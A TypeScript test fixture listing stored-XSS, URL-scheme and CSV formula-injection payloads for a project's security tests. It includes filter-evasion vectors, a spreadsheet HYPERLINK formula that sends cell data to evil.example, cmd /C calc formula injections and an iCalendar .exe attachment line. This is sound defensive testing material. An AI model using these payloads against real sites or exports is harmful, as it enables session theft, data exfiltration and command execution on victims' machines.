// Stored-XSS payloads for the security tests (tests/e2e/xss.spec.ts, tests/integration/xss.test.ts). Every payload
// that could run calls window.__xss(<id>) (or alert), so a test that exposes __xss and listens for dialogs sees any
// execution. `text` payloads go into free-text fields, `url` payloads into URL fields, `formula` ones into cells
// of spreadsheet exports. Sources: OWASP XSS Filter Evasion Cheat Sheet, PortSwigger XSS cheat sheet, OWASP CSV
// Injection.

export type XssPayload = { id: number; label: string; value: string };

export const TEXT_PAYLOADS: XssPayload[] = [
  { id: 1, label: "script tag", value: "<script>__xss(1)</script>" },
  { id: 2, label: "img onerror", value: "<img src=x onerror=__xss(2)>" },
  { id: 3, label: "svg onload", value: "<svg onload=__xss(3)>" },
  { id: 4, label: "attribute breakout then script", value: '"><script>__xss(4)</script>' },
  { id: 5, label: "single-quote breakout then img", value: "'><img src=x onerror=__xss(5)>" },
  { id: 6, label: "closing script (JSON-LD breakout)", value: "</script><script>__xss(6)</script>" },
  { id: 7, label: "iframe srcdoc", value: '<iframe srcdoc="<script>parent.__xss(7)</script>"></iframe>' },
  { id: 8, label: "anchor with javascript: URL", value: '<a href="javascript:__xss(8)">x</a>' },
  { id: 9, label: "markdown-like javascript: link", value: "[click me](javascript:__xss(9))" },
  { id: 10, label: "double-quote attribute breakout", value: '" autofocus onfocus="__xss(10)" x="' },
  { id: 11, label: "single-quote attribute breakout", value: "' autofocus onfocus='__xss(11)' x='" },
  { id: 12, label: "template literal", value: "${__xss(12)}`;__xss(12);`" },
  { id: 13, label: "client template injection", value: "{{constructor.constructor('__xss(13)')()}}" },
  { id: 14, label: "CSS expression", value: "x{}*{background:expression(__xss(14))}" },
  { id: 15, label: "unicode-escaped script", value: "\\u003cscript\\u003e__xss(15)\\u003c/script\\u003e" },
  {
    id: 16,
    label: "HTML entities",
    value: "&lt;script&gt;__xss(16)&lt;/script&gt; &#60;img src=x onerror=__xss(16)&#62;",
  },
  { id: 17, label: "percent-encoded script", value: "%3Cscript%3E__xss(17)%3C%2Fscript%3E" },
  { id: 18, label: "fullwidth angle brackets", value: "＜script＞__xss(18)＜/script＞" },
  { id: 19, label: "right-to-left override", value: "\u202Egpj.exe\u202C <b>__xss(19)</b>" },
  { id: 20, label: "HTML comment breakout", value: "--><script>__xss(20)</script><!--" },
  { id: 21, label: "CDATA breakout (Atom)", value: "]]><script>__xss(21)</script>" },
  {
    id: 22,
    label: "XML entity and tag (Atom)",
    value: '</title><content type="html">&lt;script&gt;__xss(22)&lt;/script&gt;</content>',
  },
  { id: 23, label: "entity-encoded javascript: scheme", value: "jav&#x61;script&#58;__xss(23)" },
  { id: 24, label: "JS string breakout", value: "\";__xss(24);//';__xss(24);//" },
  { id: 25, label: "MathML xlink", value: '<math><mi xlink:href="javascript:__xss(25)">x</mi></math>' },
  { id: 26, label: "details ontoggle", value: "<details open ontoggle=__xss(26)>" },
  { id: 27, label: "spaced and mixed-case tag", value: "< ScRiPt >__xss(27)</ sCrIpT >" },
  { id: 28, label: "style import", value: "<style>@import'//evil.example/x.css'</style>" },
  { id: 29, label: "base href hijack", value: '<base href="//evil.example/">' },
  { id: 30, label: "meta refresh", value: '<meta http-equiv="refresh" content="0;url=javascript:__xss(30)">' },
  {
    id: 31,
    label: "iCalendar line injection",
    value: "Talk\r\nATTACH:https://evil.example/x.exe\r\nX-INJECTED:__xss(31)",
  },
  { id: 32, label: "zero-width joiner tag", value: "<\u200Dscript>__xss(32)</script>" },
  { id: 33, label: "null byte in tag", value: "<scr\u0000ipt>__xss(33)</script>" },
  { id: 34, label: "JSON-LD line separator", value: "a\u2028b\u2029c</script>" },
];

export const URL_PAYLOADS: XssPayload[] = [
  { id: 101, label: "javascript: scheme", value: "javascript:__xss(101)" },
  { id: 102, label: "mixed-case javascript:", value: "JaVaScRiPt:__xss(102)" },
  { id: 103, label: "tab inside the scheme", value: "java\tscript:__xss(103)" },
  { id: 104, label: "leading space and javascript:", value: "  javascript:__xss(104)//https://example.org" },
  { id: 105, label: "data: HTML", value: "data:text/html,<script>__xss(105)</script>" },
  { id: 106, label: "data: base64", value: "data:text/html;base64,PHNjcmlwdD5fX3hzcygxMDYpPC9zY3JpcHQ+" },
  { id: 107, label: "vbscript:", value: "vbscript:__xss(107)" },
  { id: 108, label: "protocol-relative", value: "//evil.example/__xss(108)" },
  { id: 109, label: "entity-encoded scheme", value: "javascript&#58;__xss(109)" },
  { id: 110, label: "https with attribute breakout", value: 'https://example.org/"><script>__xss(110)</script>' },
  { id: 111, label: "https with quote and handler", value: 'https://example.org/?q=" onmouseover="__xss(111)' },
];

/** Cells a spreadsheet would run as formulas (OWASP CSV Injection). */
export const FORMULA_PAYLOADS: XssPayload[] = [
  { id: 201, label: "equals", value: '=HYPERLINK("https://evil.example/?"&A1,"__xss(201)")' },
  { id: 202, label: "plus", value: "+1+cmd|' /C calc'!A0" },
  { id: 203, label: "minus", value: "-2+3+cmd|' /C calc'!A0" },
  { id: 204, label: "at", value: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { id: 205, label: "tab", value: "\t=1+1" },
  { id: 206, label: "carriage return", value: "\r=1+1" },
  { id: 207, label: "NUL", value: "\u0000=1+1" },
];

export const ALL_PAYLOADS = [...TEXT_PAYLOADS, ...URL_PAYLOADS, ...FORMULA_PAYLOADS];
